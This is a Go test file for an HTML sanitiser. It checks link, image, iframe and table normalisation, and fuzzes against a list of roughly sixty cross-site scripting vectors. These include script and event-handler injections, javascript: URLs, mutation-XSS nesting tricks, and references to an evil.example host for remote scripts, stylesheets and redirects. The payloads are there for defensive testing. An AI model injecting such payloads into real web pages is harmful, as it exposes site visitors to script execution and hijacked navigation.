package sanitize

import (
	"context"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"tidings.internal/services/enrich/internal/decode"
	"tidings.internal/services/enrich/internal/dom"
	"tidings.internal/services/enrich/internal/pipeline"
)

var base = &url.URL{Scheme: "https", Host: "example.org", Path: "/a/b.html"}

func sanitised(t *testing.T, in string) string {
	t.Helper()
	out, err := New().HTML(t.Context(), in, base)
	if err != nil {
		t.Fatalf("%q: %v", in, err)
	}
	return out
}

func TestWhatStaysAndWhatGoes(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"relative links", `<p><a href="../c?utm_source=x&amp;id=1">x</a> <a href="#top">y</a></p>`, `<p><a href="https://example.org/c?id=1">x</a> y</p>`},
		{"mail", `<p><a href="mailto:a@example.org">x</a></p>`, `<p><a href="mailto:a@example.org">x</a></p>`},
		{"h1 becomes h2", `<h1>Titel</h1>`, `<h2>Titel</h2>`},
		{"containers become paragraphs", `<div>a<div>b</div>c <b>d</b></div>`, `<p>a</p><p>b</p><p>c <b>d</b></p>`},
		{"loose text", `Nur Text`, `<p>Nur Text</p>`},
		{"words are not glued", `<section><div>eins</div><div>zwei</div></section>`, `<p>eins</p><p>zwei</p>`},
		{"German quotes and pre", "<p>„Gut“, sagte er.</p><pre>  a\n\tb</pre>", "<p>„Gut“, sagte er.</p><pre>  a\n\tb</pre>"},
		{"lazy image", `<p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/x.jpg" onerror=alert(1)></p>`, `<p><img src="https://example.org/x.jpg" alt=""/></p>`},
		{"noscript image", `<p>x<noscript><img src="/y.jpg" alt="Y"></noscript></p>`, `<p>x<img src="https://example.org/y.jpg" alt="Y"/></p>`},
		{"srcset", `<p><img src=/a.png srcset="/a.png 1x, javascript:alert(1) 2x, /b.png 3x"></p>`, `<p><img src="https://example.org/a.png" srcset="https://example.org/a.png 1x, https://example.org/b.png 3x" alt=""/></p>`},
		{"pixel", `<p>x<img src="https://vg07.met.vgwort.de/na/1234" width="1" height="1"><img src="https://example.org/track/pixel.gif?1"></p>`, `<p>x</p>`},
		{"data image", `<p><img src="data:image/png;base64,AAAA"></p>`, `<p><img src="data:image/png;base64,AAAA" alt=""/></p>`},
		{"youtube", `<iframe src="//youtube.com/embed/abc?x=1" onload=x></iframe>`, `<iframe src="https://www.youtube-nocookie.com/embed/abc?x=1" sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen=""></iframe>`},
		{"foreign frame", `<p>x</p><iframe src="https://evil.example/embed/abc"></iframe>`, `<p>x</p>`},
		{"code class", `<pre><code class="hl language-go x">a &lt; b</code></pre>`, `<pre><code class="language-go">a &lt; b</code></pre>`},
		{"table", `<table style="x"><tr><td colspan="2" width=5>a</td></tr></table>`, `<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>`},
		{"empty blocks", `<p>a</p><p>&nbsp;</p><p><br></p><div></div>`, `<p>a</p>`},
		{"form content", `<form><p>Text</p><input value=x><button>ok</button></form>`, `<p>Text</p>`},
		{"figure", `<figure><img src=/a.png alt="A"><figcaption>B</figcaption></figure>`, `<figure><img src="https://example.org/a.png" alt="A"/><figcaption>B</figcaption></figure>`},
		{"amp", `<amp-img src="/a.png" width="300" height="200"></amp-img>`, `<p><img src="https://example.org/a.png" alt="" width="300" height="200"/></p>`},
		{"right to left", `<p dir="rtl" lang="ar">نص</p>`, `<p lang="ar" dir="rtl">نص</p>`},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(c.want, sanitised(t, c.in)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// Attacks from the public collections of such vectors, in our own spelling.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<IMG SRC="jav	ascript:alert(1)">`, `<img src=" &#14;  javascript:alert(1)">`,
	`<img src=1 href=1 onerror="javascript:alert(1)"></img>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="https://user:pass@evil.example/">x</a>`, `<a href="//evil.example" onclick=x>x</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
	`<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>`, `<iframe src="https://www.youtube.com/embed/../redirect?q=x"></iframe>`,
	`<object data="x.swf"></object><embed src=x><applet code=x></applet>`, `<base href="https://evil.example/"><a href="x">x</a>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import "//evil.example";</style>`,
	`<div style="background:url(javascript:alert(1))">x</div>`, `<p style="position:fixed">x</p>`, `<table background="javascript:alert(1)"><td>x</table>`,
	`<input autofocus onfocus=alert(1)>`, `<video><source onerror="alert(1)"></video>`, `<video poster="javascript:alert(1)" src="https://example.org/x.mp4"></video>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`, `<marquee onstart=alert(1)>x</marquee>`, `<body onload=alert(1)>`,
	`<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
	`<template><script>alert(1)</script></template>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)</script>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`, `<title><img src=x onerror=alert(1)></title>`, `<select><template><img src=x onerror=alert(1)></template></select>`,
	`<a title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" href="https://example.org">x</a>`, `<img alt="<script>alert(1)</script>" src=https://example.org/a.png>`,
	`<img srcset="https://example.org/a.png 1x, data:text/html,x 2x">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<picture><source srcset="javascript:alert(1)"><img src=x></picture>`,
	`<p id="x" name="y" class="z" data-x="1" contenteditable autofocus>x</p>`, `<blockquote cite="javascript:x">x</blockquote>`, "<p>\x00<scr\x00ipt>alert(1)</script>",
	`<a href="https://example.org/" target=_blank ping="//evil.example">x</a>`, `<b><i></b><script></i>alert(1)</script>`, `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
	strings.Repeat("<b>", 200) + "x", strings.Repeat("<div>", 120) + "<script>", `<noscript><style></noscript><img src=x onerror=alert(1)>`,
	`<table><tr><td><svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>`,
}

func TestAttacksLeaveNothing(t *testing.T) {
	t.Parallel()
	s := New()
	for _, in := range attacks {
		out, err := s.HTML(t.Context(), in, base)
		if err != nil {
			t.Errorf("%q: %v", in, err)
			continue
		}
		checkSafe(t, s, in, out)
	}
}

// checkSafe parses the result again, as a browser would, and asks of every element and attribute whether it may be.
func checkSafe(t *testing.T, s *Step, in, out string) {
	t.Helper()
	root, err := decode.Fragment(out)
	if err != nil {
		t.Fatalf("%q: the result does not parse: %v", in, err)
	}
	for n := range dom.All(root) {
		if n == root || n.Type == html.TextNode {
			continue
		}
		if n.Type != html.ElementNode {
			t.Errorf("%q left a node of type %v in %q", in, n.Type, out)
			continue
		}
		attrs, ok := allowed[n.DataAtom]
		if !ok || n.Namespace != "" {
			t.Errorf("%q left <%s> in %q", in, n.Data, out)
		}
		for _, a := range n.Attr {
			if !strings.Contains(" lang dir "+attrs+" ", " "+a.Key+" ") {
				t.Errorf("%q left the attribute %s of <%s> in %q", in, a.Key, n.Data, out)
			}
			switch a.Key {
			case "href", "src", "poster", "cite":
				u, err := url.Parse(a.Val)
				image := n.Data == "img" && dataURL.MatchString(a.Val)
				if err != nil || !image && u.Scheme != "http" && u.Scheme != "https" && (u.Scheme != "mailto" || a.Key != "href") {
					t.Errorf("%q left %s=%q", in, a.Key, a.Val)
				}
				if n.Data == "iframe" && !frameForm.MatchString(a.Val) {
					t.Errorf("%q left a frame of %q", in, a.Val)
				}
			}
		}
	}
	again, err := s.HTML(context.Background(), out, nil)
	if err != nil {
		t.Fatalf("%q: sanitising twice: %v", in, err)
	}
	if diff := cmp.Diff(out, again); diff != "" {
		t.Errorf("%q: sanitising twice changes it: %s", in, diff)
	}
}

func TestDegradedBodyKeepsItsWords(t *testing.T) {
	t.Parallel()
	root, err := decode.Fragment(`<h2>A &lt; B</h2><p>x<br>y</p><pre>a  b</pre>`)
	if err != nil {
		t.Fatal(err)
	}
	d := &pipeline.Draft{Body: root}
	New().Degrade(d)
	if diff := cmp.Diff(`<h2>A &lt; B</h2><p>x<br/>y</p><pre>a  b</pre>`, d.Article.HTML); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff("A < B\n\nx\ny\n\na  b", d.Article.Text); diff != "" {
		t.Error(diff)
	}
}

func FuzzSanitize(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	s := New()
	f.Fuzz(func(t *testing.T, in string) {
		out, err := s.HTML(t.Context(), in, base)
		if err != nil {
			return // too deep or too large to be parsed: the words go another way
		}
		checkSafe(t, s, in, out)
	})
}
